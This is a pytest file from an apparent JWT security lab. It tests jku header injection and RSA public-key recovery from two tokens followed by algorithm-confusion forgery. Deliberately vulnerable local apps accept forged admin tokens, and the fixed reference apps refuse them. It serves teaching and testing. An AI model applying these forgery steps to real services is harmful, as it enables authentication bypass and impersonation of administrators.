"""Attacks on where the verifier gets its key: jku injection, and an RSA key recovered from two tokens."""

import secrets
import warnings

import gmpy2
import jwt
import pytest
import requests
from cryptography.hazmat.primitives.asymmetric import rsa
from flask import Flask

import authlab
from authlab import attacks
from authlab.apps import jwt_header_app
from authlab.attacks.key_sources import jku_token, recover_rsa_public_key
from authlab.signing_keys import SigningKey
from authlab.users import Users
from authlab.vulnerable import alg_confusion_app
from authlab.vulnerable.key_source_servers import jku_app

CLAIMS = {"sub": "alice", "iat": 1_700_000_000, "exp": 4_000_000_000}


@pytest.fixture(scope="module")
def users():
    return Users()


def _small_rsa_key(bits: int = 512) -> rsa.RSAPrivateKey:
    """An RSA key below cryptography's 1024-bit minimum for generating: the recovery's cost grows with
    the key size, its logic does not, and a 512-bit key keeps this test to seconds."""
    e = 65537
    while True:
        p, q = (int(gmpy2.next_prime(secrets.randbits(bits // 2) | 3 << (bits // 2 - 2))) for _ in range(2))
        if p != q and gmpy2.gcd(e, (p - 1) * (q - 1)) == 1:
            break
    d = int(gmpy2.invert(e, (p - 1) * (q - 1)))
    return rsa.RSAPrivateNumbers(p, q, d, rsa.rsa_crt_dmp1(d, p), rsa.rsa_crt_dmq1(d, q), rsa.rsa_crt_iqmp(p, q),
                                 rsa.RSAPublicNumbers(e, p * q)).private_key()


def _rs256(key, **claims) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", jwt.InsecureKeyLengthWarning)
        return jwt.encode({**CLAIMS, **claims}, key, algorithm="RS256")


def test_the_public_key_is_recovered_from_two_tokens():
    key = _small_rsa_key()
    recovered = recover_rsa_public_key(_rs256(key, jti="1"), _rs256(key, jti="2"))
    assert recovered.public_numbers() == key.public_key().public_numbers()


def test_tokens_of_two_keys_or_other_algorithms_are_refused_with_a_reason():
    one, other = _small_rsa_key(), _small_rsa_key()
    with pytest.raises(ValueError, match="one RSA key"):
        recover_rsa_public_key(_rs256(one), _rs256(other))
    with pytest.raises(ValueError, match="not RSASSA-PKCS1-v1_5"):
        recover_rsa_public_key(jwt.encode(CLAIMS, "k" * 32, algorithm="HS256"), _rs256(one))
    with pytest.raises(attacks.MalformedTokenError):
        recover_rsa_public_key("not.a-token", _rs256(one))


@pytest.fixture
def attacker_jwks():
    """The attacker's own key set, served on loopback."""
    key = SigningKey()
    site = Flask("attacker-jwks")
    site.get("/jwks.json")(key.jwks)
    with authlab.serve(site, name="test-attacker-jwks", show=False) as server:
        yield key, server.url + "/jwks.json"


def _token_of(server) -> str:
    response = requests.post(server.url + "/login", json={"username": "alice", "password": "secret123"}, timeout=5)
    return response.json()["token"]


def test_jku_server_trusts_the_attackers_key_set(users, attacker_jwks):
    key, url = attacker_jwks
    with authlab.serve(jku_app(users), name="test-jku", show=False) as weak:
        honest = jwt.get_unverified_header(_token_of(weak))
        assert honest["alg"] == "ES256" and honest["jku"] == weak.url + "/.well-known/jwks.json"
        claims = attacks.as_user(jwt.decode(_token_of(weak), options={"verify_signature": False}))
        response = requests.get(weak.url + "/profile", timeout=5,
                                headers={"Authorization": f"Bearer {jku_token(claims, url, key)}"})
    assert response.status_code == 200 and response.json() == {"user": "admin"}


def test_reference_app_ignores_jku(users, attacker_jwks):
    key, url = attacker_jwks
    with authlab.serve(jwt_header_app(users=users), name="test-jku-fixed", show=False) as fixed:
        claims = attacks.as_user(jwt.decode(_token_of(fixed), options={"verify_signature": False}))
        response = requests.get(fixed.url + "/profile", timeout=5,
                                headers={"Authorization": f"Bearer {jku_token(claims, url, key)}"})
    assert response.status_code == 401


def test_a_hidden_public_key_is_recovered_and_used_for_algorithm_confusion(users):
    key = _small_rsa_key()
    with authlab.serve(alg_confusion_app(key, users, publish_key=False), name="test-hidden-key", show=False) as weak:
        assert requests.get(weak.url + "/public-key.pem", timeout=5).status_code == 404
        assert requests.get(weak.url + "/.well-known/jwks.json", timeout=5).status_code == 404
        first, second = _token_of(weak), _token_of(weak)
        public_key = recover_rsa_public_key(first, second)
        admin = attacks.as_user(jwt.decode(first, options={"verify_signature": False}))
        forged = attacks.alg_confusion_token(public_key, admin)
        response = requests.get(weak.url + "/profile", headers={"Authorization": f"Bearer {forged}"}, timeout=5)
    assert response.status_code == 200 and response.json() == {"user": "admin"}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", jwt.InsecureKeyLengthWarning)
        with authlab.serve(jwt_header_app(key, users), name="test-hidden-key-fixed", show=False) as fixed:
            response = requests.get(fixed.url + "/profile", headers={"Authorization": f"Bearer {forged}"}, timeout=5)
    assert response.status_code == 401
